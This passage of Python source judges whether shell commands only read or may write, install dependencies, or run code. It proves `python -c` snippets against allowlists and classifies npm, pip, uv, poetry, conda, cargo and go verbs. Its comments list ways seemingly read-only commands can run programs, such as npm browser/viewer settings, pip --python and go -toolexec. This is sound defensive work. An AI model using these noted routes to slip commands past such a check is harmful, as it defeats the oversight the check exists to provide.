    "StopIteration": (), "RuntimeError": (), "UnicodeDecodeError": (), "LookupError": (),
    "ArithmeticError": (), "OverflowError": (), "NotImplementedError": (),
}
_PY_SAFE_NAMES = frozenset(_PY_SAFE_CALLS) - {"open"} | {"Ellipsis", "NotImplemented"}

# Methods and attributes of the values the subset can make (str, bytes,
# numbers, list, dict, set, tuple, a file opened for reading, platform's
# uname result, sys.version_info).  None of them writes outside the process.
_PY_SAFE_ATTRS = frozenset((
    "capitalize casefold center count decode encode endswith expandtabs find format "
    "index isalnum isalpha isascii isdecimal isdigit isidentifier islower isnumeric "
    "isprintable isspace istitle isupper join ljust lower lstrip maketrans partition "
    "removeprefix removesuffix replace rfind rindex rjust rpartition rsplit rstrip split "
    "splitlines startswith strip swapcase title translate upper zfill hex fromhex "
    "bit_length bit_count to_bytes from_bytes real imag conjugate numerator denominator "
    "as_integer_ratio is_integer append extend insert pop remove reverse sort copy clear "
    "keys values items get setdefault update popitem fromkeys add discard union "
    "intersection difference symmetric_difference issubset issuperset isdisjoint "
    "read readline readlines close seek tell readable seekable name mode encoding "
    "major minor micro releaselevel serial system node release version machine processor "
    "start stop step").split())
_PY_MODULE_ATTRS: Dict[str, Optional[frozenset]] = {
    "json": frozenset(("loads", "dumps", "load", "JSONDecodeError")),
    "math": None,   # every public name: functions of numbers and constants
    "platform": frozenset((
        "system", "release", "version", "machine", "processor", "node", "platform",
        "python_version", "python_version_tuple", "python_implementation", "uname",
        "architecture", "libc_ver", "freedesktop_os_release", "mac_ver", "win32_ver")),
    "sys": frozenset(("version", "version_info", "path", "argv", "platform", "maxsize",
                      "byteorder", "executable", "stdin", "hexversion", "prefix",
                      "base_prefix", "api_version", "float_info", "int_info")),
}
# json functions and the keywords they may take (callables only as safe names).
_PY_MODULE_KEYWORDS = {"dumps": ("indent", "sort_keys", "ensure_ascii", "separators",
                                 "allow_nan", "skipkeys", "default")}
# sys lists that must not be aliased or changed: sys.path decides what a later
# import (platform imports subprocess lazily) loads.
_PY_SHARED_LISTS = frozenset(("path", "argv"))
_PY_READ_MODES = frozenset(("r", "rt", "tr", "rb", "br"))
# Builtins that only read an argument or return a copy of it, never the object itself.
_PY_COPYING = frozenset(("print", "len", "list", "tuple", "sorted", "str", "repr", "set",
                         "frozenset", "enumerate", "reversed", "iter", "any", "all"))
_PY_MAX_NODES = 4000


class _PyUnproven(Exception):
    """Code outside the proven subset; `node` is the part that decided."""

    def __init__(self, node: Any, why: str) -> None:
        Exception.__init__(self, why)
        self.node = node
        self.why = why


class _PyProof:
    """Walks a parsed module and raises _PyUnproven at the first node outside the subset."""

    def __init__(self, ast_mod: Any, tree: Any) -> None:
        import builtins
        self.ast = ast_mod
        self.builtin_names = frozenset(dir(builtins))
        self.modules: Dict[str, str] = {}     # alias -> module
        self.bound: set = set()
        self.count = 0
        self.collect(tree)

    def collect(self, tree: Any) -> None:
        """Names the code binds (assignment, loop, with, except, import)."""
        ast = self.ast
        for node in ast.walk(tree):
            if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store):
                self.bind(node, node.id)
            elif isinstance(node, ast.ExceptHandler) and node.name:
                self.bind(node, node.name)

    def bind(self, node: Any, name: str) -> None:
        # Rebinding a builtin is harmless here: a name that is a builtin is
        # only ever loaded when it is a safe one, whatever it holds.
        if name.startswith("__"):
            raise _PyUnproven(node, "binds a dunder name")
        self.bound.add(name)

    def fail(self, node: Any, why: str) -> None:
        raise _PyUnproven(node, why)

    # ---- statements ---------------------------------------------------------
    def body(self, stmts: List[Any]) -> None:
        for stmt in stmts:
            self.stmt(stmt)

    def stmt(self, node: Any) -> None:
        ast = self.ast
        self.count += 1
        if self.count > _PY_MAX_NODES:
            self.fail(node, "is too long to prove")
        if isinstance(node, ast.Expr):
            self.expr(node.value)
        elif isinstance(node, ast.Assign):
            for target in node.targets:
                self.target(target)
            self.expr(node.value)
        elif isinstance(node, ast.AugAssign):
            self.target(node.target)
            self.expr(node.value)
        elif isinstance(node, ast.AnnAssign):
            self.target(node.target)
            self.expr(node.annotation)
            if node.value is not None:
                self.expr(node.value)
        elif isinstance(node, (ast.For, ast.While, ast.If)):
            if isinstance(node, ast.For):
                self.target(node.target)
                self.expr(node.iter, shared_ok=True)
            else:
                self.expr(node.test)
            self.body(node.body)
            self.body(node.orelse)
        elif isinstance(node, ast.With):
            for item in node.items:
                call = item.context_expr
                if not (isinstance(call, ast.Call) and isinstance(call.func, ast.Name)
                        and call.func.id == "open"):
                    self.fail(call, "is a context manager other than open()")
                self.expr(call)
                if item.optional_vars is not None:
                    self.target(item.optional_vars)
            self.body(node.body)
        elif isinstance(node, ast.Try):
            self.body(node.body)
            for handler in node.handlers:
                if handler.name in self.modules:
                    self.fail(handler, "rebinds a module")
                if handler.type is not None:
                    self.expr(handler.type)
                self.body(handler.body)
            self.body(node.orelse)
            self.body(node.finalbody)
        elif isinstance(node, (ast.Pass, ast.Break, ast.Continue)):
            pass
        elif isinstance(node, ast.Assert):
            self.expr(node.test)
            if node.msg is not None:
                self.expr(node.msg)
        elif isinstance(node, ast.Raise):
            if node.exc is not None:
                self.expr(node.exc)
            if node.cause is not None:
                self.expr(node.cause)
        elif isinstance(node, ast.Import):
            for alias in node.names:
                if alias.name not in _PY_MODULE_ATTRS:
                    self.fail(node, "imports a module outside json, math, platform and sys")
                name = alias.asname or alias.name
                if name in self.builtin_names:
                    self.fail(node, "names a module like a builtin")
                self.bind(node, name)
                self.modules[name] = alias.name
        elif isinstance(node, ast.ImportFrom):
            allowed = _PY_MODULE_ATTRS.get(node.module or "", frozenset())
            if node.level or node.module not in _PY_MODULE_ATTRS:
                self.fail(node, "imports a module outside json, math, platform and sys")
            for alias in node.names:
                if alias.name == "*" or alias.name.startswith("_") or \
                        alias.name in _PY_SHARED_LISTS or \
                        (allowed is not None and alias.name not in allowed):
                    self.fail(node, "imports a name outside the proven subset")
                self.bind(node, alias.asname or alias.name)
        else:
            self.fail(node, "is a statement outside the proven subset")

    def target(self, node: Any) -> None:
        ast = self.ast
        if isinstance(node, ast.Name):
            if node.id in self.modules:
                self.fail(node, "rebinds a module")
            return
        if isinstance(node, (ast.Tuple, ast.List)):
            for elt in node.elts:
                self.target(elt)
            return
        if isinstance(node, ast.Starred):
            self.target(node.value)
            return
        if isinstance(node, ast.Subscript) and isinstance(node.value, ast.Name) \
                and node.value.id in self.bound and node.value.id not in self.modules:
            self.expr(node.slice)
            return
        self.fail(node, "writes an attribute or an item it does not own")

    # ---- expressions --------------------------------------------------------
    def expr(self, node: Any, shared_ok: bool = False) -> None:
        """Check one expression; shared_ok: `sys.path` may stand here, since
        the place only reads it (a loop, a comparison, an index, a copy)."""
        ast = self.ast
        self.count += 1
        if self.count > _PY_MAX_NODES:
            self.fail(node, "is too long to prove")
        if isinstance(node, ast.Constant):
            return
        if isinstance(node, ast.Name):
            name = node.id
            if name.startswith("__"):
                self.fail(node, "reaches a dunder name")
            if name in self.modules:
                self.fail(node, "uses a module as a value")
            if name == "open":
                self.fail(node, "passes open itself around")
            if name in _PY_SAFE_NAMES:
                return
            if name in self.bound and name not in self.builtin_names:
                return
            self.fail(node, "is not in the proven subset")
        if isinstance(node, ast.Attribute):
            self.attribute(node, shared_ok)
            return
        if isinstance(node, ast.Call):
            self.call(node)
            return
        if isinstance(node, (ast.BinOp,)):
            self.expr(node.left)
            self.expr(node.right)
        elif isinstance(node, ast.UnaryOp):
            self.expr(node.operand)
        elif isinstance(node, ast.BoolOp):
            for value in node.values:
                self.expr(value)
        elif isinstance(node, ast.Compare):
            self.expr(node.left, shared_ok=True)
            for value in node.comparators:
                self.expr(value, shared_ok=True)
        elif isinstance(node, ast.IfExp):
            self.expr(node.test)
            self.expr(node.body)
            self.expr(node.orelse)
        elif isinstance(node, (ast.List, ast.Tuple, ast.Set)):
            for elt in node.elts:
                self.expr(elt)
        elif isinstance(node, ast.Dict):
            for key in node.keys:
                if key is not None:
                    self.expr(key)
            for value in node.values:
                self.expr(value)
        elif isinstance(node, ast.Starred):
            self.expr(node.value)
        elif isinstance(node, ast.Subscript):
            self.expr(node.value, shared_ok=True)
            self.expr(node.slice)
        elif isinstance(node, ast.Slice):
            for part in (node.lower, node.upper, node.step):
                if part is not None:
                    self.expr(part)
        elif isinstance(node, (ast.ListComp, ast.SetComp, ast.GeneratorExp, ast.DictComp)):
            for gen in node.generators:
                if gen.is_async:
                    self.fail(node, "is asynchronous")
                self.target(gen.target)
                self.expr(gen.iter, shared_ok=True)
                for cond in gen.ifs:
                    self.expr(cond)
            if isinstance(node, ast.DictComp):
                self.expr(node.key)
                self.expr(node.value)
            else:
                self.expr(node.elt)
        elif isinstance(node, ast.JoinedStr):
            for value in node.values:
                self.expr(value)
        elif isinstance(node, ast.FormattedValue):
            self.expr(node.value, shared_ok=True)
            if node.format_spec is not None:
                self.expr(node.format_spec)
        elif getattr(ast, "Index", None) is not None and isinstance(node, ast.Index):
            self.expr(node.value)   # Python 3.8 wraps subscripts
        else:
            self.fail(node, "is an expression outside the proven subset")

    def attribute(self, node: Any, shared_ok: bool) -> None:
        ast = self.ast
        attr = node.attr
        if attr.startswith("_"):
            self.fail(node, "reaches a private or dunder attribute")
        base = node.value
        if not (isinstance(base, ast.Name) and base.id in self.modules):
            self.expr(base)   # the receiver first: it is the likelier culprit
        if isinstance(base, ast.Name) and base.id in self.modules:
            module = self.modules[base.id]
            allowed = _PY_MODULE_ATTRS[module]
            if allowed is not None and attr not in allowed:
                self.fail(node, "is not a proven part of `%s`" % module)
            if module == "sys" and attr in _PY_SHARED_LISTS and not shared_ok:
                self.fail(node, "could change or alias `sys.%s`" % attr)
            return
        if attr not in _PY_SAFE_ATTRS:
            self.fail(node, "is not a proven method or attribute")
        if attr in ("format", "format_map") and not (
                isinstance(base, ast.Constant) and isinstance(base.value, str)
                and "__" not in base.value):
            self.fail(node, "formats with a template that is not a plain literal")

    def call(self, node: Any) -> None:
        ast = self.ast
        func = node.func
        if isinstance(func, ast.Name):
            name = func.id
            keywords = _PY_SAFE_CALLS.get(name)
            if keywords is None or (name in self.bound and name not in _PY_SAFE_NAMES):
                self.fail(node, "calls something outside the proven subset")
            if name == "open":
                self.open_call(node)
                return
        elif isinstance(func, ast.Attribute):
            self.expr(func)
            keywords = ("*",)
            if isinstance(func.value, ast.Name) and func.value.id in self.modules:
                keywords = _PY_MODULE_KEYWORDS.get(func.attr, ())
        else:
            self.fail(node, "calls the result of an expression")
            return
        copies = isinstance(func, ast.Name) and func.id in _PY_COPYING
        for arg in node.args:
            self.expr(arg, shared_ok=copies)
        for keyword in node.keywords:
            if keyword.arg is None:
                self.fail(node, "passes keyword arguments with **")
            if "*" not in keywords and keyword.arg not in keywords:
                self.fail(node, "passes `%s=`, which the proof does not accept" % keyword.arg)
            self.expr(keyword.value)

    def open_call(self, node: Any) -> None:
        ast = self.ast
        args = list(node.args)
        mode: Any = "r"
        if any(isinstance(a, ast.Starred) for a in args) or len(args) not in (1, 2):
            self.fail(node, "calls open() with other than a path and a mode")
        if not (isinstance(args[0], ast.Constant) and isinstance(args[0].value, str)):
            self.fail(node, "opens a path that is not a literal")
        if len(args) == 2:
            mode = args[1].value if isinstance(args[1], ast.Constant) else None
        for keyword in node.keywords:
            if keyword.arg not in _PY_SAFE_CALLS["open"] or \
                    not isinstance(keyword.value, ast.Constant):
                self.fail(node, "calls open() with a keyword the proof does not accept")
            if keyword.arg == "mode":
                if len(args) == 2:
                    self.fail(node, "gives open() two modes")
                mode = keyword.value.value
        if mode not in _PY_READ_MODES:
            self.fail(node, "opens a file in a mode that may write")


def _py_code_proof(code: str) -> Tuple[bool, str]:
    """(proven read, the part that decided or "") for Python source text."""
    import ast
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        try:
            tree = ast.parse(code, "<code>", "exec")
        except (SyntaxError, ValueError, RecursionError, MemoryError, OverflowError):
            return False, ""
    try:
        proof = _PyProof(ast, tree)
        proof.body(tree.body)
    except _PyUnproven as exc:
        try:
            piece = ast.get_source_segment(code, exc.node) or ""
        except (AttributeError, TypeError, ValueError, IndexError):
            piece = ""
        return False, "%s\x00%s" % (piece.split("\n", 1)[0], exc.why)
    except RecursionError:
        return False, ""
    return True, ""


# Options of python that may come before -c or the stdin script; -I and -P
# keep the working folder off the import path (see above).  -i would read
# more code from stdin, -W and -X take arguments that import or change things.
_PY_FLAGS = frozenset("IPEsSBuqOdbRv")
_PY_SAFE_PATH = frozenset("IP")
_PYTHON_NAMES = frozenset(["python", "python3"] + ["python3.%d" % n for n in range(6, 16)])


def _python_args(args: List[_W]) -> Tuple[Optional[str], Optional[_W], bool]:
    """("code" | "stdin" | None, the code word, whether -I or -P was given).

    None: a script, a module, an option outside _PY_FLAGS: not judged here."""
    safe = False
    i = 0
    while i < len(args):
        w = args[i]
        if not w.static or w.glob:
            return None, None, safe
        t = w.text
        if t == "-":
            return "stdin", None, safe
        if not t.startswith("-") or t.startswith("--") or len(t) < 2:
            return None, None, safe
        for k, ch in enumerate(t[1:], 1):
            if ch == "c":
                rest = t[k + 1:]
                if rest:
                    return "code", _lit(rest), safe
                return ("code", args[i + 1], safe) if i + 1 < len(args) else (None, None, safe)
            if ch not in _PY_FLAGS:
                return None, None, safe
            safe = safe or ch in _PY_SAFE_PATH
        i += 1
    return "stdin", None, safe


def _python(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """python -c CODE and python with code on stdin: proven when the code is."""
    kind, code, safe = _python_args(args)
    if kind == "code" and code is not None and code.static:
        return _python_verdict(name, code.text, safe, "-c", _PY_INTERP(name, args, ctx))
    if kind == "stdin":
        # The code arrives on stdin; _stdin_program judges a here-document.
        return _unknown("interpreter_code", "pystdin", name, safe)
    return _PY_INTERP(name, args, ctx)


def _python_verdict(name: str, code: str, safe: bool, flag: str, fallback: _V) -> _V:
    proven, part = _py_code_proof(code)
    if proven and safe:
        return _V(hash_=hash_intent_in_text(code, "x.py"))
    verdict = fallback if fallback.mut != "read" else _unknown("interpreter_code")
    verdict.hash = verdict.hash or hash_intent_in_text(code, "x.py")
    if verdict.why is None or verdict.why[0] == "pystdin":
        verdict.why = ("python", name, flag, proven, part)
    return verdict


# ---- package managers -------------------------------------------------------

_NPM_INSTALL = frozenset(("i", "in", "ins", "inst", "insta", "instal", "install", "isnt",
                          "isnta", "isntal", "isntall", "add"))
_NPM_RESTORE = frozenset(("ci", "clean-install", "ic", "install-clean", "isntall-clean",
                          "install-ci-test", "cit", "it", "install-test"))
_NPM_WRITE = frozenset(("uninstall", "remove", "rm", "r", "un", "unlink", "update", "up",
                        "upgrade", "udpate", "publish", "unpublish", "init", "create", "link",
                        "ln", "prune", "dedupe", "ddp", "version", "pack", "rebuild", "rb",
                        "deprecate", "dist-tag", "owner", "access", "login", "logout", "adduser",
                        "star", "unstar", "cache", "set", "import", "patch", "shrinkwrap"))
# Left out: docs, bugs, repo and home open a browser (they run `xdg-open URL`,
# or whatever program --browser names).
# `help` is left out too: it runs the program the `viewer` or `browser`
# setting names, and a project's .npmrc can set both.
_NPM_READ = frozenset(("ls", "list", "la", "ll", "view", "v", "info", "show", "outdated",
                       "explain", "why", "root", "prefix", "bin", "search", "s", "find",
                       "fund", "doctor", "ping", "whoami", "licenses", "config-get", "query",
                       "sbom", "audit"))
# Verbs that fetch a package by the spec they are given: a git, URL or
# folder spec runs git (the program the project's .npmrc names) or reads
# the folder's package, so only registry names are proven.
_NPM_SPEC_VERBS = frozenset(("view", "v", "info", "show"))
# npm settings that run a program (browser, viewer: `npm help --viewer=browser`,
# `npm fund PKG`), load other settings (userconfig, globalconfig) or put
# npm's own files elsewhere (cache, logs-dir).  nopt also takes abbreviations.
_NPM_RISKY_SETTINGS = ("browser", "viewer", "userconfig", "globalconfig", "cache", "logs-dir")


def _npm_risky_setting(args: List[_W]) -> bool:
    for w in args:
        t = w.text
        if t == "--":
            break
        key = t[2:].split("=", 1)[0] if t.startswith("--") else ""
        if key.startswith("no-"):
            key = key[3:]
        if len(key) >= 2 and any(s.startswith(key) or key.startswith(s)
                                 for s in _NPM_RISKY_SETTINGS):
            return True
    return False
_NPM_EXEC = frozenset(("exec", "x", "dlx", "npx", "bunx"))
# Verbs that move declared packages to newer versions.
_NPM_UPGRADE = frozenset(("update", "up", "upgrade", "udpate", "upgrade-interactive"))
_NPM_VALUED_OPTS = ("--prefix", "-w", "--workspace", "--filter", "--tag", "-C", "--omit",
                    "--include", "--install-strategy", "--loglevel", "--cache", "--userconfig",
                    "--cwd", "--dir", "-F")
_NPM_DEP_KEYS = ("dependencies", "devdependencies", "optionaldependencies", "peerdependencies",
                 "bundledependencies", "bundleddependencies", "overrides", "resolutions",
                 "pnpm", "workspaces", "imports", "require", "require-dev", "repositories")


def _npm_dep_setting(w: _W) -> bool:
    """`npm pkg set dependencies.x=1` (or `dependencies[x]`, or --json): a declaration."""
    if not w.static:
        return True
    key = w.text.split("=", 1)[0].lower().lstrip("-")
    return key.split(".", 1)[0].split("[", 1)[0] in _NPM_DEP_KEYS
_NPM_VALUED_GLOBALS = frozenset(("--prefix", "-C", "--dir", "--workspace", "-w", "--filter",
                                 "-F", "--loglevel", "--registry", "--cwd", "--userconfig",
                                 "--cache", "--tag"))


def _pm_verb(args: List[_W]) -> Tuple[Optional[str], List[_W], bool]:
    """Skip global options up to the verb; returns (verb, rest, global_flag_seen)."""
    i, n = 0, len(args)
    is_global = False
    while i < n:
        w = args[i]
        if not w.static:
            return None, [], is_global
        t = w.text
        if t in ("-g", "--global", "--location=global"):
            is_global = True
            i += 1
        elif t in _NPM_VALUED_GLOBALS:
            i += 2
        elif t.startswith("-"):
            i += 1
        else:
            return t, args[i + 1:], is_global
    return None, [], is_global


def _operands_of(args: List[_W], valued: Tuple[str, ...] = ()) -> Tuple[List[str], bool]:
    """Package-looking operands and whether -g/--global appeared."""
    ops = []
    glob = False
    skip = False
    for w in args:
        t = w.text
        if skip:
            skip = False
            continue
        if t in ("-g", "--global", "--location=global"):
            glob = True
        elif t in valued:
            skip = True
        elif not t.startswith("-"):
            ops.append(t)
    return ops, glob


def _npm(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if len(args) == 1 and args[0].text in ("--version", "-v", "-V", "version"):
        return _an_read()
    if name in ("npx", "bunx", "pnpx"):
        return _V("unknown", "shell_command_unproven", dep=True)
    verb, rest, is_global = _pm_verb(args)
    if verb is None:
        if name in ("yarn",) and not args:
            return _write()   # bare `yarn` installs what is declared
        return _unknown()
    if name == "yarn" and verb == "global" and rest and rest[0].text in ("add", "upgrade"):
        return _V("write", dep=True)
    if name == "yarn" and verb in ("workspace", "workspaces") and len(rest) >= 2:
        # `yarn workspace app add lodash`: the verb after the workspace's name
        return _npm(name, rest[1:] if verb == "workspace" else rest, ctx)
    ops, g = _operands_of(rest, _NPM_VALUED_OPTS)
    is_global = is_global or g
    if any(w.text.startswith("--registry") for w in args) and (
            verb in _NPM_INSTALL or verb in _NPM_RESTORE or verb in _NPM_UPGRADE
            or verb in _NPM_EXEC):
        return _V("write", dep=True)   # packages from somewhere else
    if verb in _NPM_INSTALL or (name in ("bun", "pnpm", "yarn") and verb == "a"):
        if ops or verb == "add":
            return _V("write", dep=True)
        return _write()
    if verb in _NPM_UPGRADE or (verb == "audit" and rest and rest[0].text == "fix"):
        return _V("write", dep=True)   # newer versions of what is declared: new code
    if verb in ("init", "create", "innit") and ops:
        return _V("write", dep=True)   # `npm init vite` runs the create-vite package
    if verb in ("link", "ln") and ops:
        return _V("write", dep=True)
    if verb == "pkg" and rest and rest[0].text == "set":
        return _V("write", dep=any(_npm_dep_setting(w) for w in rest[1:]))
    if verb in _NPM_RESTORE or (name == "bun" and verb == "install"):
        return _write()
    if verb in _NPM_EXEC:
        return _V("unknown", "shell_command_unproven", dep=True)
    if verb in _NPM_WRITE:
        return _write()
    if verb in _NPM_READ:
        if verb == "audit" and rest and rest[0].text == "fix":
            return _write()
        if verb == "fund" and ops:
            return _unknown("shell_command_unproven")   # `npm fund PKG` opens its funding URL
        if verb in _NPM_SPEC_VERBS and ops and all(w.static for w in rest) \
                and not _npm_registry_name(ops[0]):
            return _unknown("repository_code")
        return _npm_read(args)
    if verb == "config" or verb == "c":
        return _npm_read(args) if rest and rest[0].text in ("get", "list", "ls") else _write()
    if verb == "pkg":
        return _npm_read(args) if rest and rest[0].text == "get" else _write()
    return _unknown()


def _npm_registry_name(spec: str) -> bool:
    """`lodash`, `@scope/pkg`, `pkg@^1.2`: a name the registry answers for."""
    name, _, version = spec[1:].partition("@") if spec.startswith("@") else spec.partition("@")
    name = "@" + name if spec.startswith("@") else name
    parts = name[1:].split("/") if name.startswith("@") else [name]
    if len(parts) != (2 if name.startswith("@") else 1):
        return False
    ok = frozenset("abcdefghijklmnopqrstuvwxyz0123456789-._~")
    return all(p and all(ch in ok for ch in p.lower()) for p in parts) and ":" not in version \
        and "/" not in version


def _npm_read(args: List[_W]) -> _V:
    """A read verb reads unless a setting runs a program or moves npm's files."""
    if _npm_risky_setting(args):
        return _unknown("shell_execution_option")
    return _an_read()


_PIP_READ = frozenset(("list", "show", "freeze", "check", "help", "search", "index", "inspect",
                       "debug", "hash"))


def _pip_unsafe(args: List[_W]) -> Optional[str]:
    """Reason a pip command that would read does not: --log FILE appends a
    log, --python PATH re-runs pip with that program; optparse also takes
    any unique prefix (`--pyth=x`), so prefixes count."""
    for w in args:
        if not w.static:
            return "shell_syntax_unproven"
        if w.text == "--":
            break
        if w.text.startswith("--"):
            key = w.text[2:].split("=", 1)[0]
            if key and any(o.startswith(key) or key.startswith(o)
                           for o in ("log", "log-file", "python")):
                runs = "python".startswith(key) or key.startswith("python")
                return "shell_execution_option" if runs else "shell_command_unproven"
    return None


def _pip(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if len(args) == 1 and args[0].text in ("--version", "-V"):
        return _an_read()
    verb, rest, _ = _pm_verb(args)
    if verb is None:
        return _unknown()
    v = _pip_verb(verb, rest)
    unsafe = _pip_unsafe(args)
    if v.mut == "read" and unsafe:
        return _unknown(unsafe)
    return v


def _pip_verb(verb: str, rest: List[_W]) -> _V:
    if verb in ("install", "download", "wheel"):
        ops, _ = _operands_of(rest, ("-r", "--requirement", "-c", "--constraint", "-i",
                                     "--index-url", "--extra-index-url", "-t", "--target",
                                     "--prefix", "--root", "-f", "--find-links", "--python",
                                     "--platform", "--upgrade-strategy", "--src", "-e",
                                     "--editable"))
        local = [o for o in ops if o in (".", "./") or o.startswith(("./", "../", "/"))]
        adds = [o for o in ops if o not in local]
        if any(w.text in ("-i", "--index-url", "--extra-index-url", "-f", "--find-links")
               or w.text.startswith(("--index-url=", "--extra-index-url=")) for w in rest):
            return _V("write", dep=True)
        if any(w.text in ("-U", "--upgrade") or (w.text.startswith("-") and not
                                                 w.text.startswith("--") and "U" in w.text)
               for w in rest):
            return _V("write", dep=True)   # newer versions, even of what is declared
        return _V("write", dep=bool(adds))
    if verb == "uninstall":
        return _write()
    if verb == "config":
        return _an_read() if rest and rest[0].text in ("list", "get", "debug") else _write()
    if verb == "cache":
        return _an_read() if rest and rest[0].text in ("dir", "info", "list") else _write()
    if verb in _PIP_READ:
        return _an_read()
    return _unknown()


def _uv(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args]
    if name == "uvx":
        return _V("unknown", dep=True, reason="shell_command_unproven")
    # `uv version 1.2.3` or `--bump` rewrites pyproject.toml, locks and syncs.
    if texts in (["--version"], ["-V"], ["version"]):
        return _an_read()
    if not texts:
        return _unknown()
    verb = texts[0]
    if verb == "pip":
        # uv asks the project's own interpreter (.venv/bin/python) what it has.
        v = _pip("pip", args[1:], ctx)
        return _unknown("repository_code") if v.mut == "read" else v
    if verb == "add":
        return _V("write", dep=True)
    if verb in ("sync", "lock", "remove", "venv", "init", "export"):
        upgrade = any(t in ("-U", "--upgrade") or t.startswith(("--upgrade-package", "-P"))
                      for t in texts[1:])
        return _V("write", dep=upgrade and verb in ("sync", "lock"))
    if verb == "self" and texts[1:2] == ["update"]:
        return _V("write", dep=True)
    if verb == "tool":
        sub = texts[1] if len(texts) > 1 else ""
        if sub in ("install", "run", "upgrade"):
            return _V("unknown" if sub == "run" else "write", dep=True,
                      reason="shell_command_unproven" if sub == "run" else None)
        if sub in ("list", "dir"):
            return _an_read()
        return _write()
    if verb == "run":
        inner = _run_inner(args[1:], ctx)
        dep = any(t.startswith("--with") for t in texts) or inner.dep
        return _V("unknown", "shell_command_unproven", dep=dep, hash_=inner.hash)
    if verb in ("tree",):
        # It resolves the project, which may build it (setup.py, a build backend).
        return _unknown("repository_code")
    return _unknown()


def _poetry(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args if not w.text.startswith("-")]
    if [w.text for w in args] in (["--version"], ["-V"]):
        return _an_read()
    verb = texts[0] if texts else ""
    if verb == "run" and name != "pipx":
        # `poetry run pip install x`: what runs in the environment counts.
        at = next(k for k, w in enumerate(args) if w.text == "run")
        inner = _run_inner(args[at + 1:], ctx)
        return _V("unknown", "shell_command_unproven", hash_=inner.hash, dep=inner.dep)
    if name == "pipenv" and verb == "install":
        return _V("write", dep=len(texts) > 1 or any(
            w.text in ("--selective-upgrade", "-U") for w in args))
    if name in ("conda", "mamba", "micromamba"):
        return _conda(verb, args)
    if name == "pipx":
        if verb in ("install", "run", "inject", "upgrade", "upgrade-all", "reinstall",
                    "reinstall-all", "install-all"):
            return _V("write" if verb != "run" else "unknown", dep=True,
                      reason="shell_command_unproven" if verb == "run" else None)
        if verb == "list":
            return _an_read()
        return _write()
    if verb in ("add", "update", "upgrade", "import") or (verb == "self" and len(texts) > 1
                                                         and texts[1] in ("add", "update")):
        return _V("write", dep=True)   # a new package, or newer versions of declared ones
    if verb == "source" and len(texts) > 1 and texts[1] == "add":
        return _V("write", dep=True)   # packages from another index
    if verb in ("lock", "sync") and any(w.text in ("--regenerate", "--update-all", "--update")
                                        or w.text.startswith("--update=") for w in args):
        return _V("write", dep=True)
    if name == "rye" and verb in ("install", "tools"):
        return _V("write", dep=True)
    if verb in ("install", "lock", "remove", "update", "sync", "init", "new", "build", "publish",
                "uninstall", "clean", "export"):
        return _write()
    if verb in ("show", "check", "list", "info", "env", "search", "graph", "--version"):
        if verb == "env" and len(texts) > 1 and texts[1] not in ("info", "list"):
            return _write()
        if name in ("poetry", "pipenv"):
            # Poetry loads the plugins a project asks for and runs the project's
            # .venv interpreter; pipenv loads the project's .env into it.
            return _unknown("repository_code")
        return _an_read()
    return _unknown()


_CONDA_VALUED = ("-n", "--name", "-p", "--prefix", "--file", "-f", "--solver", "--json-file")


def _conda(verb: str, args: List[_W]) -> _V:
    """conda/mamba install, create and update: a package named, a channel given, or
    newer versions fetched is a dependency change; `--file`/`env update` restores."""
    texts = [w.text for w in args]
    if verb in ("install", "create", "update", "upgrade", "i"):
        k = texts.index(verb) if verb in texts else 0
        ops, _ = _operands_of(args[k + 1:], _CONDA_VALUED + ("-c", "--channel"))
        channel = any(t in ("-c", "--channel", "--override-channels") or
                      t.startswith("--channel=") for t in texts)
        return _V("write", dep=bool(ops) or channel or verb in ("update", "upgrade")
                  and "--all" in texts)
    if verb == "env":
        return _write()
    if verb == "config" and any(t in ("--add", "--append", "--prepend") for t in texts):
        return _V("write", dep=any("channel" in t for t in texts))
    if verb in ("list", "info", "search"):
        return _an_read()
    return _unknown()


def _cargo(name: str, args: List[_W], ctx: _Ctx) -> _V:
    v = _cargo_verb(args)
    # rustup runs the toolchain rust-toolchain.toml names, and that file may
    # give it a folder of the project (`path = "./tools"`): nothing is a read.
    return _unknown("repository_code") if v.mut != "write" else v


def _cargo_verb(args: List[_W]) -> _V:
    texts = [w.text for w in args]
    verb = next((t for t in texts if not t.startswith(("-", "+"))), "")
    if texts[:1] in (["--version"], ["-V"], ["version"]):
        return _an_read()
    if verb in ("add", "install", "binstall", "update", "upgrade"):
        # update moves Cargo.lock to newer versions: new code, as an addition is
        return _V("write", dep=True)
    if verb in ("remove", "rm", "fetch", "new", "init", "generate-lockfile",
                "vendor", "publish", "clean", "fix", "fmt", "package", "uninstall", "login"):
        return _write()
    # `cargo tree` is left out: it writes Cargo.lock when it is missing or
    # stale, and runs build.rustc (set by --config or .cargo/config.toml).
    if verb in ("search", "locate-project", "pkgid", "read-manifest", "version",
                "help", "verify-project") and not any(t.startswith("--config") for t in texts):
        return _an_read()
    return _unknown()


def _go_flag(text: str) -> str:
    """The name of a Go flag word: `-w`, `--w`, `-w=true` are all `w`."""
    if not text.startswith("-") or text in ("-", "--"):
        return ""
    return text.lstrip("-").split("=", 1)[0] if text[:3] != "---" else ""


# `go list` flags that only select or format; build flags such as -toolexec
# (runs a program), -mod=mod (rewrites go.mod), -modfile, -overlay, -export and
# -compiled (compile) are refused.
_GO_LIST_FLAGS = frozenset(("json", "m", "e", "deps", "test", "find", "u", "versions",
                            "retracted", "reuse"))
_GO_LIST_VALUED = frozenset(("f", "tags", "C"))


def _go_list(args: List[_W]) -> _V:
    i = 0
    while i < len(args):
        w = args[i]
        i += 1
        if not w.static:
            return _unknown()
        t = w.text
        if t == "--":
            break
        name = _go_flag(t)
        if not name:
            continue
        if name in _GO_LIST_FLAGS:
            continue
        if name in _GO_LIST_VALUED:
            i += 0 if "=" in t else 1
            continue
        if name == "mod" and t.split("=", 1)[-1] in ("readonly", "vendor"):
            continue
        return _unknown()
    return _an_read()


def _go(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args]
    verb = texts[0] if texts else ""
    if verb == "get":
        return _V("write", dep=True)
    if verb == "install":
        return _V("write", dep=any("@" in t for t in texts[1:]))
    if verb == "run" and any("@" in t for t in texts[1:] if not t.startswith("-")):
